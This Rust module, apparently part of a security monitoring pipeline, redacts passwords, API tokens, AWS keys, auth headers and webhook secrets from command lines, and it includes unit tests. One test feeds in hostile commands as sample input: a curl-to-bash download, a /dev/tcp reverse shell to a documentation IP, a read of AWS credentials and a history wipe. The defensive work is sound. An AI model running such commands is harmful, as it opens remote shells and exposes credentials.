//! Secrets in command lines, replaced by `[redacted]` before an event leaves
//! the parser, so that no alert, lake file or sink ever holds them.
//!
//! A command line is split into shell words (quotes and backslashes
//! honoured, `|`, `;` and `&` separating commands) and these are replaced,
//! keeping the rest of the line so that detection still sees what was run:
//! - the value of an option whose long name contains `password`, `passwd`,
//!   `passphrase`, `secret`, `token`, `apikey`, `api_key` or `api-key`
//!   (`--password X`, `--password=X`), and of a variable assignment whose
//!   name does (`AWS_SECRET_ACCESS_KEY=X`, `export DB_PASSWORD=X`);
//! - the word after `aws_secret_access_key` or `aws_session_token`
//!   (`aws configure set`);
//! - `-p X` / `-pX` for `mysql`, `mysqldump`, `mariadb` and their kin and for
//!   `sshpass`, and `-a X` for `redis-cli`;
//! - the password of `curl -u user:X` / `--user user:X` (the user is kept);
//! - the credential of a secret HTTP header given to `-H` / `--header`:
//!   `Authorization` and `Proxy-Authorization` (the scheme word, such as
//!   `Bearer` or `Basic`, is kept), `Cookie`, and any header whose name holds
//!   one of the words above (`X-Api-Key`, `X-Auth-Token`);
//! - in a URL, the password (`https://user:X@host`), query parameters named
//!   like a secret or `X-Amz-Signature` / `signature` / `sig` (presigned
//!   URLs), and the secret path of Slack and Discord webhook URLs;
//! - in a JSON-looking argument (`-d '{"password": "X"}'`), string values of
//!   keys named like a secret, and PagerDuty's `routing_key`,
//!   `integration_key` and `service_key`;
//! - anywhere in a word, credentials recognisable by their shape: GitHub
//!   (`ghp_`, `gho_`, `ghu_`, `ghs_`, `ghr_`, `github_pat_`), GitLab
//!   (`glpat-`), Slack (`xoxb-`, `xoxp-`, `xoxa-`, `xoxr-`, `xoxs-`,
//!   `xapp-`), Stripe (`sk_live_`, `rk_live_`), npm (`npm_`), PyPI (`pypi-`),
//!   Google API keys (`AIza`), OpenAI-style `sk-` keys, JSON web tokens
//!   (`eyJ...` with two dots), AWS session tokens (`IQoJb3JpZ2lu...`,
//!   `FwoGZXIvYXdz...`) and AWS secret access keys: a run of exactly 40
//!   base64 characters holding upper case, lower case and a digit, `/` or
//!   `+`. For a prefixed token the prefix is kept (`ghp_[redacted]`), so an
//!   analyst still sees which kind of credential was exposed. Access key ids
//!   (`AKIA...`, `ASIA...`) are identifiers, not secrets, and are kept: they
//!   are what ties a command to CloudTrail.
//!
//! Over-redaction is the safe failure: a 40-character path segment of mixed
//! case and digits is redacted too. Overlapping finds are merged into one
//! `[redacted]`.

/// What replaces a secret.
pub(crate) const REDACTED: &str = "[redacted]";

/// Words in an option or variable name that mark its value as secret.
const SECRET_WORDS: [&str; 8] = [
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "api_key",
    "api-key",
];

/// Tools whose short `-p` option carries a password.
const DASH_P_TOOLS: [&str; 14] = [
    "mysql",
    "mysqldump",
    "mysqladmin",
    "mysqlimport",
    "mysqlcheck",
    "mysqlshow",
    "mysqlpump",
    "mysqlsh",
    "mariadb",
    "mariadb-dump",
    "mariadb-admin",
    "mariadb-import",
    "mariadb-check",
    "sshpass",
];

/// Words after which the next word is a secret.
const SECRET_KEYS: [&str; 2] = ["aws_secret_access_key", "aws_session_token"];

/// True when a variable or option name marks its value as secret.
pub(crate) fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    SECRET_WORDS.iter().any(|w| name.contains(w))
}

/// One shell word: its byte span in the line and its text without quotes.
#[derive(Debug)]
struct Word {
    start: usize,
    end: usize,
    text: String,
    /// `|`, `;`, `&`: separates commands.
    operator: bool,
}

/// Splits a command line into words, honouring quotes and backslashes, with
/// `|`, `;` and `&` as words of their own.
fn words(line: &str) -> Vec<Word> {
    let mut words = Vec::new();
    let mut chars = line.char_indices().peekable();
    while let Some(&(start, c)) = chars.peek() {
        if c.is_whitespace() {
            chars.next();
            continue;
        }
        if matches!(c, '|' | ';' | '&') {
            chars.next();
            let mut end = start + c.len_utf8();
            let mut text = c.to_string();
            while let Some(&(i, d)) = chars.peek() {
                if !matches!(d, '|' | '&') {
                    break;
                }
                chars.next();
                text.push(d);
                end = i + d.len_utf8();
            }
            words.push(Word {
                start,
                end,
                text,
                operator: true,
            });
            continue;
        }
        let mut text = String::new();
        let mut end = start;
        let mut quote: Option<char> = None;
        while let Some(&(i, d)) = chars.peek() {
            if quote.is_none() && (d.is_whitespace() || matches!(d, '|' | ';' | '&')) {
                break;
            }
            chars.next();
            end = i + d.len_utf8();
            match (quote, d) {
                (None, '\'' | '"') => quote = Some(d),
                (Some(q), d) if d == q => quote = None,
                (Some('\''), d) => text.push(d),
                (_, '\\') => {
                    if let Some(&(j, e)) = chars.peek() {
                        chars.next();
                        end = j + e.len_utf8();
                        text.push(e);
                    }
                }
                (_, d) => text.push(d),
            }
        }
        words.push(Word {
            start,
            end,
            text,
            operator: false,
        });
    }
    words
}

/// Replaces the secrets of a command line by `[redacted]` (shapes in the
/// module docs). Returns the line and whether anything changed.
pub(crate) fn redact_command(line: &str) -> (String, bool) {
    let words = words(line);
    // Byte ranges of `line` to replace.
    let mut spans: Vec<(usize, usize)> = Vec::new();
    let mut dash_flag: Option<char> = None;
    let mut curl = false;
    let mut i = 0;
    while i < words.len() {
        let Some(word) = words.get(i) else { break };
        let next = words.get(i + 1).filter(|w| !w.operator);
        if word.operator {
            dash_flag = None;
            curl = false;
            i += 1;
            continue;
        }
        let raw = line.get(word.start..word.end).unwrap_or("");
        let text = word.text.as_str();
        let base = text.rsplit('/').next().unwrap_or(text);
        if DASH_P_TOOLS.contains(&base) {
            dash_flag = Some('p');
        } else if base == "redis-cli" {
            dash_flag = Some('a');
        } else if base == "curl" {
            curl = true;
        }
        // Shapes found anywhere in a word, whatever the option before it.
        spans.extend(
            token_spans(raw)
                .into_iter()
                .map(|(from, to)| (word.start + from, word.start + to)),
        );
        spans.extend(
            json_secret_spans(raw)
                .into_iter()
                .map(|(from, to)| (word.start + from, word.start + to)),
        );

        if let Some(n) = next.filter(|_| matches!(text, "-H" | "--header")) {
            let value = line.get(n.start..n.end).unwrap_or("");
            if let Some((from, to)) = header_secret(value) {
                spans.push((n.start + from, n.start + to));
            }
            i += 2;
            continue;
        }
        if let Some(n) = next.filter(|_| curl && matches!(text, "-u" | "--user")) {
            let value = line.get(n.start..n.end).unwrap_or("");
            if let Some((from, to)) = user_password(value) {
                spans.push((n.start + from, n.start + to));
            }
            i += 2;
            continue;
        }
        if let Some(option) = text.strip_prefix("--") {
            match option.split_once('=') {
                Some(("header", _)) => {
                    if let Some(eq) = raw.find('=')
                        && let Some((from, to)) = raw.get(eq + 1..).and_then(header_secret)
                    {
                        spans.push((word.start + eq + 1 + from, word.start + eq + 1 + to));
                    }
                }
                Some(("user", _)) if curl => {
                    if let Some(eq) = raw.find('=')
                        && let Some((from, to)) = raw.get(eq + 1..).and_then(user_password)
                    {
                        spans.push((word.start + eq + 1 + from, word.start + eq + 1 + to));
                    }
                }
                Some((name, value)) if is_secret_name(name) && !value.is_empty() => {
                    if let Some(eq) = raw.find('=') {
                        spans.push((word.start + eq + 1, word.end));
                    }
                }
                None if is_secret_name(option) => {
                    if let Some(n) = next.filter(|n| !n.text.starts_with('-')) {
                        spans.push((n.start, n.end));
                        i += 1;
                    }
                }
                _ => {}
            }
        } else if let Some(joined) = raw.strip_prefix("-H").filter(|r| !r.is_empty()) {
            if let Some((from, to)) = header_secret(joined) {
                spans.push((word.start + 2 + from, word.start + 2 + to));
            }
        } else if let Some(flag) =
            dash_flag.filter(|_| text.starts_with('-') && !text.starts_with("--"))
        {
            let mut opt = text.strip_prefix('-').unwrap_or("").chars();
            if opt.next() == Some(flag) {
                if opt.as_str().is_empty() {
                    if let Some(n) = next.filter(|n| !n.text.starts_with('-')) {
                        spans.push((n.start, n.end));
                        i += 1;
                    }
                } else if let Some(at) = raw.find(flag) {
                    spans.push((word.start + at + flag.len_utf8(), word.end));
                }
            }
        } else if let Some((name, value)) = assignment(text) {
            if is_secret_name(name)
                && !value.is_empty()
                && let Some(eq) = raw.find('=')
            {
                spans.push((word.start + eq + 1, word.end));
            }
        } else if SECRET_KEYS.contains(&text.to_ascii_lowercase().as_str()) {
            if let Some(n) = next {
                spans.push((n.start, n.end));
                i += 1;
            }
        } else if raw.contains("://") {
            spans.extend(
                url_secrets(raw)
                    .into_iter()
                    .map(|(from, to)| (word.start + from, word.start + to)),
            );
        }
        i += 1;
    }
    if spans.is_empty() {
        return (line.to_string(), false);
    }
    (replace_spans(line, spans), true)
}

/// `line` with every span (byte ranges, possibly overlapping or touching)
/// replaced by one `[redacted]` per merged run.
fn replace_spans(line: &str, mut spans: Vec<(usize, usize)>) -> String {
    spans.sort_unstable();
    let mut clean = String::with_capacity(line.len());
    // End of the text copied or redacted so far.
    let mut at = 0;
    for (start, end) in spans {
        if end <= at || end <= start || line.get(start..end).is_none() {
            continue;
        }
        if start > at {
            clean.push_str(line.get(at..start).unwrap_or(""));
            clean.push_str(REDACTED);
        } else if at == 0 && start == 0 {
            clean.push_str(REDACTED);
        }
        // Otherwise the span overlaps or touches the last one: it only
        // extends what that `[redacted]` stands for.
        at = end;
    }
    clean.push_str(line.get(at..).unwrap_or(""));
    clean
}

/// `NAME=value` with a shell variable name: returns both parts.
fn assignment(text: &str) -> Option<(&str, &str)> {
    let (name, value) = text.split_once('=')?;
    let mut chars = name.chars();
    let first = chars.next()?;
    if (first.is_ascii_alphabetic() || first == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        Some((name, value))
    } else {
        None
    }
}

/// The byte range of the password in `scheme://user:password@host`.
fn url_password(raw: &str) -> Option<(usize, usize)> {
    let scheme_end = raw.find("://")? + 3;
    let rest = raw.get(scheme_end..)?;
    let authority_len = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..authority_len)?;
    let at = authority.rfind('@')?;
    let colon = authority.get(..at)?.find(':')?;
    (colon + 1 < at).then_some((scheme_end + colon + 1, scheme_end + at))
}

/// Query parameter names whose values are secret besides
/// [`is_secret_name`]'s (presigned URL signatures).
const SECRET_PARAMS: [&str; 3] = ["x-amz-signature", "signature", "sig"];

/// Webhook URL paths whose remainder is the secret.
const WEBHOOK_PATHS: [&str; 3] = [
    "hooks.slack.com/services/",
    "discord.com/api/webhooks/",
    "discordapp.com/api/webhooks/",
];

/// Byte ranges of the secrets of a URL word: the password, secret query
/// parameter values, and a webhook URL's secret path.
fn url_secrets(raw: &str) -> Vec<(usize, usize)> {
    let mut spans: Vec<(usize, usize)> = url_password(raw).into_iter().collect();
    // A closing quote is not part of the URL.
    let body_end = raw.trim_end_matches(['\'', '"']).len();
    if let Some(q) = raw.find('?') {
        let query_end = raw
            .get(q..body_end)
            .and_then(|r| r.find('#'))
            .map_or(body_end, |h| q + h);
        let mut at = q + 1;
        for param in raw.get(q + 1..query_end).unwrap_or("").split('&') {
            if let Some((name, value)) = param.split_once('=') {
                let lower = name.to_ascii_lowercase();
                if !value.is_empty()
                    && (is_secret_name(name) || SECRET_PARAMS.contains(&lower.as_str()))
                {
                    let from = at + name.len() + 1;
                    spans.push((from, from + value.len()));
                }
            }
            at += param.len() + 1;
        }
    }
    for path in WEBHOOK_PATHS {
        if let Some(p) = raw.find(path) {
            let from = p + path.len();
            let to = raw
                .get(from..body_end)
                .and_then(|r| r.find(['?', '#']))
                .map_or(body_end, |e| from + e);
            if to > from {
                spans.push((from, to));
            }
        }
    }
    spans
}

/// Header names whose value is a credential besides [`is_secret_name`]'s.
const SECRET_HEADERS: [&str; 3] = ["authorization", "proxy-authorization", "cookie"];

/// The byte range of the credential in a header argument (`Name: value`,
/// quotes allowed around it) when the header is a secret one. For
/// `Authorization: Bearer X` the scheme word is kept.
fn header_secret(raw: &str) -> Option<(usize, usize)> {
    let open = usize::from(raw.starts_with(['\'', '"']));
    let end = raw.len() - usize::from(raw.len() > open && raw.ends_with(['\'', '"']));
    let header = raw.get(open..end)?;
    let colon = header.find(':')?;
    let name = header.get(..colon)?.trim().to_ascii_lowercase();
    if !(SECRET_HEADERS.contains(&name.as_str()) || is_secret_name(&name)) {
        return None;
    }
    let value = header.get(colon + 1..)?;
    let lead = value.len() - value.trim_start().len();
    let mut from = open + colon + 1 + lead;
    let trimmed = value.trim();
    if name.ends_with("authorization")
        && let Some((scheme, rest)) = trimmed.split_once(char::is_whitespace)
        && scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-')
        && !rest.trim().is_empty()
    {
        from += scheme.len() + (rest.len() - rest.trim_start().len()) + 1;
    }
    let to = open + colon + 1 + lead + trimmed.len();
    (to > from).then_some((from, to))
}

/// The byte range of the password in curl's `user:password`.
fn user_password(raw: &str) -> Option<(usize, usize)> {
    let end = raw.len() - usize::from(raw.ends_with(['\'', '"']));
    let colon = raw.find(':')?;
    (colon + 1 < end).then_some((colon + 1, end))
}

/// JSON keys whose string values are secret besides [`is_secret_name`]'s
/// (PagerDuty's integration keys).
const SECRET_JSON_KEYS: [&str; 3] = ["routing_key", "integration_key", "service_key"];

/// Byte ranges of string values of secret keys in JSON-looking text:
/// `"password": "X"`, `"routing_key":"X"`.
fn json_secret_spans(raw: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    if !raw.contains("\":") && !raw.contains("\" :") {
        return spans;
    }
    let mut search = 0;
    while let Some(rel) = raw.get(search..).and_then(|r| r.find('"')) {
        let key_start = search + rel + 1;
        let Some(key_len) = raw.get(key_start..).and_then(|r| r.find('"')) else {
            break;
        };
        let key = raw.get(key_start..key_start + key_len).unwrap_or("");
        let after_key = key_start + key_len + 1;
        search = after_key;
        let rest = raw.get(after_key..).unwrap_or("");
        let Some(value) = rest.trim_start().strip_prefix(':') else {
            continue;
        };
        let Some(quoted) = value.trim_start().strip_prefix('"') else {
            continue;
        };
        let lower = key.to_ascii_lowercase();
        let value_start = after_key + (rest.len() - quoted.len());
        let Some(value_len) = closing_quote(quoted) else {
            break;
        };
        if value_len > 0 && (is_secret_name(key) || SECRET_JSON_KEYS.contains(&lower.as_str())) {
            spans.push((value_start, value_start + value_len));
        }
        search = value_start + value_len + 1;
    }
    spans
}

/// The byte length of a JSON string body up to its closing quote.
fn closing_quote(body: &str) -> Option<usize> {
    let mut escaped = false;
    for (i, c) in body.char_indices() {
        match c {
            '\\' if !escaped => escaped = true,
            '"' if !escaped => return Some(i),
            _ => escaped = false,
        }
    }
    None
}

/// Characters a token's body may hold.
#[derive(Clone, Copy)]
enum Alphabet {
    /// Letters, digits, `_` and `-`.
    Word,
    /// Standard base64 with padding: letters, digits, `/`, `+`, `=`.
    Base64,
    /// base64url and `.`: JSON web tokens.
    Jwt,
}

impl Alphabet {
    fn holds(self, c: char) -> bool {
        c.is_ascii_alphanumeric()
            || match self {
                Alphabet::Word => matches!(c, '_' | '-'),
                Alphabet::Base64 => matches!(c, '/' | '+' | '='),
                Alphabet::Jwt => matches!(c, '_' | '-' | '.'),
            }
    }
}

/// Credential prefixes: the prefix, whether it is kept in the output, the
/// alphabet of the body and the shortest body that counts.
const TOKEN_PREFIXES: [(&str, bool, Alphabet, usize); 21] = [
    ("ghp_", true, Alphabet::Word, 20),
    ("gho_", true, Alphabet::Word, 20),
    ("ghu_", true, Alphabet::Word, 20),
    ("ghs_", true, Alphabet::Word, 20),
    ("ghr_", true, Alphabet::Word, 20),
    ("github_pat_", true, Alphabet::Word, 20),
    ("glpat-", true, Alphabet::Word, 20),
    ("xoxb-", true, Alphabet::Word, 10),
    ("xoxp-", true, Alphabet::Word, 10),
    ("xoxa-", true, Alphabet::Word, 10),
    ("xoxr-", true, Alphabet::Word, 10),
    ("xoxs-", true, Alphabet::Word, 10),
    ("xapp-", true, Alphabet::Word, 10),
    ("sk_live_", true, Alphabet::Word, 16),
    ("rk_live_", true, Alphabet::Word, 16),
    ("npm_", true, Alphabet::Word, 30),
    ("pypi-", true, Alphabet::Word, 30),
    ("AIza", true, Alphabet::Word, 30),
    ("sk-", true, Alphabet::Word, 32),
    ("IQoJb3JpZ2lu", false, Alphabet::Base64, 60),
    ("FwoGZXIvYXdz", false, Alphabet::Base64, 60),
];

/// Byte ranges of credentials recognised by shape anywhere in `raw`.
fn token_spans(raw: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let bytes = raw.as_bytes();
    let boundary = |at: usize| {
        at == 0
            || bytes
                .get(at - 1)
                .is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
    };
    let run = |from: usize, alphabet: Alphabet| {
        raw.get(from..)
            .and_then(|r| r.find(|c: char| !alphabet.holds(c)))
            .map_or(raw.len(), |n| from + n)
    };
    for (prefix, keep, alphabet, shortest) in TOKEN_PREFIXES {
        let mut search = 0;
        while let Some(rel) = raw.get(search..).and_then(|r| r.find(prefix)) {
            let at = search + rel;
            let body = at + prefix.len();
            let end = run(body, alphabet);
            if boundary(at) && end - body >= shortest {
                spans.push((if keep { body } else { at }, end));
            }
            search = end.max(body);
        }
    }
    // JSON web tokens: three base64url parts, the first two opening with
    // `eyJ` (`{"`).
    let mut search = 0;
    while let Some(rel) = raw.get(search..).and_then(|r| r.find("eyJ")) {
        let at = search + rel;
        let end = run(at, Alphabet::Jwt);
        let token = raw.get(at..end).unwrap_or("");
        let parts: Vec<&str> = token.split('.').collect();
        if boundary(at)
            && parts.len() == 3
            && parts.iter().all(|p| p.len() >= 8)
            && parts.get(1).is_some_and(|p| p.starts_with("eyJ"))
        {
            spans.push((at, end));
        }
        search = end.max(at + 3);
    }
    // AWS secret access keys: exactly 40 base64 characters (no padding).
    let mut at = 0;
    while at < raw.len() {
        let Some(rel) = raw
            .get(at..)
            .and_then(|r| r.find(|c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '+')))
        else {
            break;
        };
        let start = at + rel;
        let end = raw
            .get(start..)
            .and_then(|r| r.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '+'))))
            .map_or(raw.len(), |n| start + n);
        let candidate = raw.get(start..end).unwrap_or("");
        let padded = raw.get(end..).is_some_and(|r| r.starts_with('='));
        if candidate.len() == 40 && !padded && looks_random(candidate) {
            spans.push((start, end));
        }
        at = end.max(start + 1);
    }
    spans
}

/// Mixed case plus a digit or a base64 symbol, and not a path of short
/// segments: what a random base64 secret looks like.
fn looks_random(s: &str) -> bool {
    let upper = s.chars().any(|c| c.is_ascii_uppercase());
    let lower = s.chars().any(|c| c.is_ascii_lowercase());
    let other = s
        .chars()
        .any(|c| c.is_ascii_digit() || matches!(c, '/' | '+'));
    let slashes = s.matches('/').count();
    upper && lower && other && slashes <= 3 && !s.contains("//")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn redact(line: &str) -> String {
        redact_command(line).0
    }

    #[test]
    fn redacts_known_secret_shapes() {
        assert_eq!(
            redact("mysql -u root -pS3cret db"),
            "mysql -u root -p[redacted] db"
        );
        assert_eq!(
            redact("mysql -u root -p S3cret"),
            "mysql -u root -p [redacted]"
        );
        assert_eq!(
            redact("tool --password 'a b' --x"),
            "tool --password [redacted] --x"
        );
        assert_eq!(
            redact("tool --db-password=abc"),
            "tool --db-password=[redacted]"
        );
        assert_eq!(
            redact("export AWS_SECRET_ACCESS_KEY=wJalr && aws s3 ls"),
            "export AWS_SECRET_ACCESS_KEY=[redacted] && aws s3 ls"
        );
        assert_eq!(
            redact("aws configure set aws_secret_access_key abc"),
            "aws configure set aws_secret_access_key [redacted]"
        );
        assert_eq!(
            redact("curl https://bob:hunter2@example.com/x"),
            "curl https://bob:[redacted]@example.com/x"
        );
        assert_eq!(
            redact("sshpass -p pw ssh host"),
            "sshpass -p [redacted] ssh host"
        );
        assert_eq!(
            redact("redis-cli -a pw ping"),
            "redis-cli -a [redacted] ping"
        );
    }

    #[test]
    fn leaves_ordinary_commands_alone() {
        for line in [
            "curl -s http://x/y.sh | bash",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "cat ~/.aws/credentials",
            "history -c; unset HISTFILE",
            "ls -p /tmp",
            "mysql -p",
            "echo é 'unterminated",
        ] {
            assert_eq!(redact_command(line), (line.to_string(), false), "{line}");
        }
    }

    #[test]
    fn redacts_bearer_tokens_and_secret_headers() {
        assert_eq!(
            redact("curl -H 'Authorization: Bearer abc.def' https://api.example.com"),
            "curl -H 'Authorization: Bearer [redacted]' https://api.example.com"
        );
        assert_eq!(
            redact("curl --header \"X-Api-Key: k3y\" -s x"),
            "curl --header \"X-Api-Key: [redacted]\" -s x"
        );
        assert_eq!(
            redact("curl -H'Cookie: session=abc' x"),
            "curl -H'Cookie: [redacted]' x"
        );
        assert_eq!(
            redact("curl --header='Authorization: token t0k' x"),
            "curl --header='Authorization: token [redacted]' x"
        );
        assert_eq!(
            redact("wget --header 'Authorization: s3cr3t' x"),
            "wget --header 'Authorization: [redacted]' x"
        );
        // Ordinary headers stay.
        let plain = "curl -H 'Accept: application/json' x";
        assert_eq!(redact_command(plain), (plain.to_string(), false));
    }

    #[test]
    fn redacts_curl_user_passwords() {
        assert_eq!(
            redact("curl -u alice:hunter2 https://x"),
            "curl -u alice:[redacted] https://x"
        );
        assert_eq!(
            redact("curl --user=alice:hunter2 https://x"),
            "curl --user=alice:[redacted] https://x"
        );
        // A user alone makes curl prompt; other tools' -u is a user name.
        for line in ["curl -u alice https://x", "mysql -u root -p"] {
            assert_eq!(redact_command(line), (line.to_string(), false), "{line}");
        }
    }

    #[test]
    fn redacts_bare_aws_secret_keys_and_keeps_key_ids() {
        assert_eq!(
            redact(
                "aws configure import AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
            ),
            "aws configure import AKIAIOSFODNN7EXAMPLE [redacted]"
        );
        assert_eq!(
            redact("echo ASIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY > creds"),
            "echo ASIAIOSFODNN7EXAMPLE:[redacted] > creds"
        );
        // 40 hex characters (a git commit) and longer base64 are not keys.
        for line in [
            "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
            "echo QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w | base64 -d",
        ] {
            assert_eq!(redact_command(line), (line.to_string(), false), "{line}");
        }
    }

    #[test]
    fn redacts_aws_session_tokens_by_shape() {
        let token = format!("IQoJb3JpZ2luX2VjE{}", "Ab1+/".repeat(30));
        assert_eq!(
            redact(&format!("echo {token} | pbcopy")),
            "echo [redacted] | pbcopy"
        );
    }

    #[test]
    fn redacts_tool_tokens_keeping_their_prefix() {
        assert_eq!(
            redact("git clone https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/o/r"),
            "git clone https://ghp_[redacted]@github.com/o/r"
        );
        assert_eq!(
            redact("export GH=github_pat_11ABCDEFG0123456789_abcdefghijklmnop"),
            "export GH=github_pat_[redacted]"
        );
        assert_eq!(
            redact("slack-cli --as xoxb-1234567890-abcdefghijkl post"),
            "slack-cli --as xoxb-[redacted] post"
        );
        assert_eq!(
            redact("glab auth login -t glpat-AbCdEfGhIjKlMnOpQrSt"),
            "glab auth login -t glpat-[redacted]"
        );
        assert_eq!(
            redact("node -e x sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
            "node -e x sk-[redacted]"
        );
        // Short words with the same start are ordinary words.
        for line in ["ls ghp_notes", "kubectl -n sk-prod get pods", "echo xoxb-1"] {
            assert_eq!(redact_command(line), (line.to_string(), false), "{line}");
        }
    }

    #[test]
    fn redacts_json_web_tokens() {
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLXZhbHVl";
        assert_eq!(
            redact(&format!("curl -b jwt={jwt} https://x")),
            "curl -b jwt=[redacted] https://x"
        );
    }

    #[test]
    fn redacts_url_query_secrets_and_webhooks() {
        assert_eq!(
            redact(
                "curl 'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F2024&X-Amz-Signature=abc123&X-Amz-Security-Token=tok'"
            ),
            "curl 'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F2024&X-Amz-Signature=[redacted]&X-Amz-Security-Token=[redacted]'"
        );
        assert_eq!(
            redact("curl https://api.example.com/v1?api_key=k&page=2#top"),
            "curl https://api.example.com/v1?api_key=[redacted]&page=2#top"
        );
        assert_eq!(
            redact("curl -X POST https://hooks.slack.com/services/T000/B000/XXXXSECRET -d x"),
            "curl -X POST https://hooks.slack.com/services/[redacted] -d x"
        );
    }

    #[test]
    fn redacts_secret_values_in_json_arguments() {
        assert_eq!(
            redact(r#"curl -d '{"routing_key": "R0ut1ng", "event_action": "trigger"}' https://x"#),
            r#"curl -d '{"routing_key": "[redacted]", "event_action": "trigger"}' https://x"#
        );
        assert_eq!(
            redact(r#"http POST x '{"user":"a","password":"p\"w"}'"#),
            r#"http POST x '{"user":"a","password":"[redacted]"}'"#
        );
    }

    #[test]
    fn overlapping_finds_become_one_redaction() {
        // The option value and the token shape cover the same bytes.
        assert_eq!(
            redact("gh --token ghp_16C7e42F292c6912E7710c838347Ae178B4a repo list"),
            "gh --token [redacted] repo list"
        );
        assert_eq!(
            replace_spans("abcdef", vec![(1, 3), (2, 5)]),
            "a[redacted]f"
        );
        assert_eq!(
            replace_spans("abcdef", vec![(0, 2), (2, 4)]),
            "[redacted]ef"
        );
        assert_eq!(replace_spans("abcdef", vec![(0, 9)]), "abcdef");
    }
}
